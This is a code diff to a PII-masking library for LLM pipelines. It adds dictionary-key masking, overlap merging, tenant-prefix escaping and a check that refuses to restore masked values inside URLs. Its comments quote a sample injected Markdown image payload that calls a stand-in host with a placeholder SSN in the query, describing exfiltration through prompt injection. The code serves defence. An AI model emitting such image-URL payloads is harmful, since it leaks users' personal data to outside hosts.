@@ -25,6 +25,7 @@ instead and writes a ``fail_open`` audit record.
 from __future__ import annotations
 
 import asyncio
+import bisect
 import contextlib
 import dataclasses
 import functools
@@ -35,6 +36,7 @@ import os
 import re
 import secrets
 import threading
+import unicodedata
 import urllib.parse
 from collections import Counter
 from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
@@ -173,8 +175,11 @@ class Guard:
         fail_open: bool = False,
         tenant: str | None = None,
         scope: str = DEFAULT_SCOPE,
+        restore_in_urls: bool | None = None,
     ) -> None:
         self.policy: Policy = as_policy(policy)
+        # None: the policy decides (``restore_in_urls``, off by default)
+        self.restore_in_urls = restore_in_urls
         master = load_master_key(key)
         if master is None and not isinstance(store, Store):
             url = resolve_url(store)
@@ -243,7 +248,7 @@ class Guard:
         s = self.default_scope if scope is None else str(scope)
         if not s:
             raise InputError("scope must be a non-empty string")
-        return f"{self.tenant}/{s}" if self.tenant else s
+        return f"{_tenant_prefix(self.tenant)}/{s}" if self.tenant else s
 
     def _subject(self, subject: str | None) -> str | None:
         """The data-subject id as the vault sees it: qualified by the tenant, so that
@@ -253,7 +258,7 @@ class Guard:
             return None
         if not isinstance(subject, str) or not subject:
             raise InputError("subject must be a non-empty string (a data subject id)")
-        return f"{self.tenant}/{subject}" if self.tenant else subject
+        return f"{_tenant_prefix(self.tenant)}/{subject}" if self.tenant else subject
 
     def _who(self, principal: str | None) -> str:
         return principal or self.principal
@@ -270,10 +275,12 @@ class Guard:
         except GuardError:
             raise
         except Exception as exc:
-            raise DetectionError(
-                f"detection failed ({type(exc).__name__}); nothing was let through"
-            ) from None
-        return sorted(findings, key=lambda f: (f.start, -f.end))
+            failed = type(exc).__name__
+        else:
+            return sorted(findings, key=lambda f: (f.start, -f.end))
+        # raised outside the except block: the detector's exception (its message may hold
+        # the raw input) must not stay reachable as a suppressed __context__
+        raise DetectionError(f"detection failed ({failed}); nothing was let through")
 
     @staticmethod
     def _text(text: Any) -> str:
@@ -392,9 +399,7 @@ class Guard:
         refs: list[TokenRef] = []
         done: dict[str, tuple[str, TokenRef]] = {}
         pos = 0
-        for f in findings:
-            if f.start < pos:
-                continue  # overlapping finding: the earlier, longer one already covered it
+        for f in _merge_overlaps(findings):
             replacement, ref = self._replace(text[f.start : f.end], f.entity_type, scope, who, subject)
             if ref is None:
                 continue
@@ -525,11 +530,14 @@ class Guard:
         except GuardError:
             raise
         except Exception as exc:
-            raise DetectionError(
-                f"detection failed ({type(exc).__name__}); nothing was let through"
-            ) from None
+            failed: str | None = type(exc).__name__
+        else:
+            failed = None
+        if failed is not None:  # outside the except block: no reachable __context__
+            raise DetectionError(f"detection failed ({failed}); nothing was let through")
         if findings is None:  # a text-only detector: scan leaf by leaf
-            return self._walk_leaves(obj, scope, who, subject, refs, 0)
+            out = self._walk_leaves(obj, scope, who, subject, refs, 0)
+            return self._mask_keys(out, scope, who, subject, refs, 0, set(), {})
         by_path: dict[tuple[Any, ...], list[Any]] = {}
         prefixes: set[tuple[Any, ...]] = set()
         for f in findings:
@@ -538,7 +546,7 @@ class Guard:
             for i in range(len(path)):
                 prefixes.add(path[:i])
         if not by_path:
-            return obj
+            return self._mask_keys(obj, scope, who, subject, refs, 0, set(), {})
 
         def rebuild(node: Any, path: tuple[Any, ...], depth: int) -> Any:
             if depth > MAX_DEPTH:
@@ -576,7 +584,77 @@ class Guard:
                 "pass dicts, lists, tuples or dataclasses"
             )
 
-        return rebuild(obj, (), 0)
+        return self._mask_keys(rebuild(obj, (), 0), scope, who, subject, refs, 0, set(), {})
+
+    def _mask_keys(
+        self,
+        node: Any,
+        scope: str,
+        who: str,
+        subject: str | None,
+        refs: list[TokenRef],
+        depth: int,
+        stack: set[int],
+        done: dict[str, str],
+    ) -> Any:
+        """``node`` with every string dict key masked (``{email: ...}`` must not leak the key),
+        rebuilt only where a key changed; a cycle is refused (the unmasked inner cycle would
+        otherwise come back as it was)."""
+        if isinstance(node, str | bytes | bytearray | int | float | bool) or node is None:
+            return node
+        if depth > MAX_DEPTH:
+            raise InputError(f"object nested deeper than {MAX_DEPTH} levels")
+        if id(node) in stack:
+            raise InputError("cannot mask a cyclic object (it contains itself)")
+        stack.add(id(node))
+        try:
+            if isinstance(node, Mapping):
+                pairs = []
+                changed = False
+                for k, v in node.items():
+                    nk = k
+                    if isinstance(k, str) and k:
+                        nk = done.get(k)
+                        if nk is None:
+                            findings = self._scan_key(k)
+                            nk, r = self._apply(k, findings, scope, who, subject) if findings else (k, [])
+                            refs.extend(r)
+                            done[k] = nk
+                    nv = self._mask_keys(v, scope, who, subject, refs, depth + 1, stack, done)
+                    changed = changed or nk is not k or nv is not v
+                    pairs.append((nk, nv))
+                return dict(pairs) if changed else node
+            if isinstance(node, list | tuple):
+                items = [self._mask_keys(v, scope, who, subject, refs, depth + 1, stack, done) for v in node]
+                if all(a is b for a, b in zip(items, node, strict=True)):
+                    return node
+                if isinstance(node, tuple):
+                    return type(node)(*items) if hasattr(node, "_fields") else tuple(items)
+                return items
+            mapping = _as_mapping(node)
+            if mapping is not None:
+                plain = dict(mapping)
+                out = self._mask_keys(plain, scope, who, subject, refs, depth + 1, stack, done)
+                return node if out is plain else out
+            return node
+        finally:
+            stack.discard(id(node))
+
+    def _scan_key(self, key: str) -> list[Any]:
+        """Findings in a dict key.  A plug-in with ``scan_object`` answers for the values of
+        the object it is given (the SQL runner hands over a planned table and refuses
+        ``scan``), so its keys go through the built-in detector instead."""
+        if self.detector is None or not hasattr(self.detector, "scan_object"):
+            return self._scan(key)
+        try:
+            from guardllm.detect import scan
+
+            found = scan(key)
+        except Exception as exc:
+            failed = type(exc).__name__
+        else:
+            return sorted(found, key=lambda f: (f.start, -f.end))
+        raise DetectionError(f"detection failed ({failed}); nothing was let through")  # no __context__
 
     def _walk_leaves(
         self, obj: Any, scope: str, who: str, subject: str | None, refs: list[TokenRef], depth: int
@@ -597,7 +675,35 @@ class Guard:
             if isinstance(obj, tuple):
                 return type(obj)(*items) if hasattr(obj, "_fields") else tuple(items)
             return items
-        return obj
+        # the same shapes the object detector path rebuilds, so a text-only detector is not
+        # a way around masking (sets, bytes, dataclasses / models / rows)
+        if isinstance(obj, bytes | bytearray):
+            try:
+                text = bytes(obj).decode("utf-8")
+            except UnicodeDecodeError:
+                return obj  # not text: nothing a text detector can read
+            out = self._walk_leaves(text, scope, who, subject, refs, depth + 1)
+            return obj if out == text else out
+        if isinstance(obj, set | frozenset):
+            items = [
+                self._walk_leaves(v, scope, who, subject, refs, depth + 1) for v in sorted(obj, key=repr)
+            ]
+            return type(obj)(items)
+        mapping = _as_mapping(obj)
+        if mapping is not None:
+            out = self._walk_leaves(dict(mapping), scope, who, subject, refs, depth + 1)
+            return obj if out == dict(mapping) else out
+        if obj is None or isinstance(obj, int | float | bool):
+            return obj
+        # any other object: masked as its text when that holds a value (as the object
+        # detector path does), else left as it is
+        text = str(obj)
+        findings = self._scan(text) if text else []
+        if not findings:
+            return obj
+        out, r = self._apply(text, findings, scope, who, subject)
+        refs.extend(r)
+        return out
 
     # ------------------------------------------------------------------ unmask
     @_run_scoped
@@ -765,13 +871,21 @@ class Guard:
             return text
         entries = self._vault.lookup(scope, {c.canon for c in cands})
         roles = self.policy.roles_of(who)
+        in_urls = self.restore_in_urls if self.restore_in_urls is not None else self.policy.restore_in_urls
+        # Spans where a restored value would land inside a URL the reader's UI may fetch
+        # on its own (image, link, tag attribute): an injected ![](https://x/?d=[SSN_1])
+        # must not turn into a request carrying the value.  The whole text is scanned,
+        # text[:start] included, so a streamed piece sees the URL it continues.
+        url_spans = [] if in_urls else _url_spans(text)
         parts: list[str] = [text[:start]] if start else []
         pos = start
         for c in cands:
             entry = entries.get(c.canon)
             if entry is None:
-                if c.kind == "bracket" and c.canon[1 : c.canon.rindex("_")] in self._pattern_labels():
-                    acc.foreign += 1
+                if (
+                    c.kind == "bracket" or (c.kind == "bare" and _bracketed(text, c.start, c.end))
+                ) and c.canon[1 : c.canon.rindex("_")] in self._pattern_labels():
+                    acc.foreign += 1  # a bare label between look-alike brackets (\uff3bEMAIL_1\uff3d) too
                 continue
             ref = TokenRef(
                 entry.token,
@@ -779,6 +893,9 @@ class Guard:
                 entry.fingerprint,
                 "surrogate" if c.kind == "surrogate" else "tokenize",
             )
+            if url_spans and _inside(url_spans, c.start):
+                acc.refused.append((ref, "url-context"))
+                continue
             decision = self.policy.decide(entry.entity_type, to, who, purpose, roles)
             if not decision.allowed:
                 acc.refused.append((ref, decision.rule))
@@ -861,16 +978,24 @@ class Guard:
     ) -> StreamRestorer:
         """An incremental restorer: ``feed(chunk)`` returns what can be shown now, ``flush()`` the rest."""
         self._check_recipient(to)
+        # The raw text already streamed (a bounded tail): restoring a piece must see the URL
+        # it continues (``![](https://x/?d=`` in one chunk, ``[SSN_1])`` in the next) exactly
+        # as unmask() of the whole text would.
+        seen = [""]
+        seen_lock = threading.Lock()
 
         def restore(piece: str, before: str) -> str:
             if not piece:
                 return piece
             sc, who = self._scope(scope), self._who(principal)
             acc = _Acc()
-            self._vault.sync()
-            out = self._unmask_text(before + piece, sc, to, who, purpose, acc, start=len(before))
+            with seen_lock:
+                history = seen[0] or before
+                self._vault.sync()
+                out = self._unmask_text(history + piece, sc, to, who, purpose, acc, start=len(history))
+                seen[0] = _stream_tail(history + piece)
             self._audit_unmask(acc, sc, to, who, purpose)
-            return out[len(before) :]
+            return out[len(history) :]
 
         def safe_cut(buf: str, cut: int) -> int:
             for m in self._pattern().finditer(buf):
@@ -1082,6 +1207,58 @@ def _as_mapping(obj: Any) -> Mapping[str, Any] | None:
     return None
 
 
+@dataclass(frozen=True)
+class _Span:
+    entity_type: str
+    start: int
+    end: int
+
+
+def _merge_overlaps(findings: Sequence[Any]) -> list[Any]:
+    """Findings (sorted by start) with overlapping ones merged into one span over their union.
+
+    Plug-in detectors (Presidio) return overlaps; masking only the first of two overlapping
+    findings left the tail of the other raw ("card 4111" masked, "1111 1111 1111" not).  The
+    merged span takes a secret type if any finding is one, else the longest finding's type."""
+    out: list[Any] = []
+    group: list[Any] = []
+    end = -1
+    for f in [*findings, None]:
+        if f is not None and group and f.start < end:
+            group.append(f)
+            end = max(end, f.end)
+            continue
+        if len(group) == 1:
+            out.append(group[0])
+        elif group:
+            secrets_ = [g for g in group if is_secret(g.entity_type)]
+            best = max(secrets_ or group, key=lambda g: g.end - g.start)
+            out.append(_Span(best.entity_type, group[0].start, end))
+        if f is not None:
+            group, end = [f], f.end
+    return out
+
+
+def _bracketed(text: str, start: int, end: int) -> bool:
+    """Whether ``text[start:end]`` sits between an opening and a closing punctuation mark
+    (full-width brackets, CJK lenticular brackets, ...): a token form, not a word that looks
+    like a label."""
+    return (
+        start > 0
+        and end < len(text)
+        and unicodedata.category(text[start - 1]) == "Ps"
+        and unicodedata.category(text[end]) == "Pe"
+    )
+
+
+def _tenant_prefix(tenant: str) -> str:
+    """The tenant as it prefixes scopes and subjects (``<tenant>/<name>``), with no ``/`` left
+    in it: tenant ``acme/eu`` scope ``t1`` must not be tenant ``acme`` scope ``eu/t1``.
+    ``%`` is escaped too so the encoding stays one-to-one; tenant names with neither
+    (all names in use before) are unchanged, so existing stores read as before."""
+    return tenant.replace("%", "%25").replace("/", "%2F")
+
+
 def _fmt_path(path: Sequence[Any]) -> str:
     out = ""
     for p in path:
@@ -1106,6 +1283,53 @@ def _escape_like(surface: str, value: str) -> str:
     if low.startswith("%5b"):
         return urllib.parse.quote(value, safe="")
     return value
+
+
+# Where a URL (or something a renderer fetches) starts, and how far it runs:
+#   scheme://... and www.... up to whitespace (autolinks, bare URLs, reference definitions);
+#   Markdown link/image targets "](" up to whitespace or, for the <...> form, up to ">";
+#   CSS url(...);  an open HTML tag "<img ...>" as a whole (src, href, srcset, style, ...).
+_URL_CONTEXT_RE = re.compile(
+    r"(?:[A-Za-z][A-Za-z0-9+.-]*:)?//\S*"
+    r"|(?<![A-Za-z0-9_])www\.\S*"
+    r"|\]\(\s*<[^>\n]*"
+    r"|\]\(\S*"
+    r"|(?i:url)\([^)\n]*"
+    r"|<[A-Za-z][^<>]*",
+)
+
+
+def _url_spans(text: str) -> list[tuple[int, int]]:
+    """Sorted, non-overlapping spans of ``text`` that are URL context (see ``_URL_CONTEXT_RE``)."""
+    if "/" not in text and "(" not in text and "<" not in text and "www." not in text.lower():
+        return []
+    return [(m.start(), m.end()) for m in _URL_CONTEXT_RE.finditer(text)]
+
+
+_STREAM_TAIL = 2048  # raw characters of history kept for URL context (more if a URL is still open)
+_STREAM_TAIL_MAX = 1 << 20
+
+
+def _stream_tail(text: str) -> str:
+    """What a stream restorer keeps of the raw text streamed so far: the last
+    ``_STREAM_TAIL`` characters, or from the start of a URL context still open at the
+    end (an ``<img src=`` padded past the tail must not escape the check), bounded."""
+    if len(text) <= 2 * _STREAM_TAIL:
+        return text
+    keep = len(text) - _STREAM_TAIL
+    spans = _url_spans(text)
+    if spans and spans[-1][1] >= len(text):
+        keep = min(keep, spans[-1][0])
+    return text[max(keep, len(text) - _STREAM_TAIL_MAX) :]
+
+
+def _inside(spans: list[tuple[int, int]], start: int) -> bool:
+    """Whether position ``start`` lies in one of the sorted ``spans``.
+
+    Only where the token starts counts: a URL context that begins inside the token
+    (``[SSN_1](`` as link text) depends on what follows it, which a stream has not seen yet."""
+    i = bisect.bisect_right(spans, (start, 1 << 62)) - 1
+    return i >= 0 and spans[i][0] <= start < spans[i][1]
 
 
 @functools.lru_cache(maxsize=1)
